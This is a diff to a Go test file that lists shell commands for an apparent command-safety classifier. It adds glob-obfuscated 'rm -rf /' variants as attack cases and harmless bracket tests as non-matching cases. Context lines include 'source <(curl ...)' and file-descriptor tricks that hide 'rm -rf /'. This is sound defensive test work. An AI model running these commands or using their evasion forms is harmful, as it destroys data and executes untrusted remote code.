@@ -119,6 +119,8 @@ var attackUnknown = []string{
 	`source <(curl -s https://x)`,
 	`sudo -s`,
 	`trap "$X" EXIT`,
+	`[r]m -rf /`,
+	`/bin/r? -rf /`,
 	// A file descriptor the command is not given here; bash's table of hashed commands (ls runs rm).
 	`exec 3<<< 'rm -rf /'; . /dev/fd/3`,
 	`bash /dev/fd/4 3<<< 'rm -rf /'`,
@@ -166,6 +168,8 @@ var attackNoMatch = []string{
 	`bundle install`,
 	`ssh-agent -k`,
 	`fc -l`,
+	`[ -f go.mod ] && echo yes`,
+	`if [ $? -ne 0 ]; then echo fail; fi`,
 	`set -euo pipefail`,
 	`set +H`,
 	`bash -c 'echo -H'`,
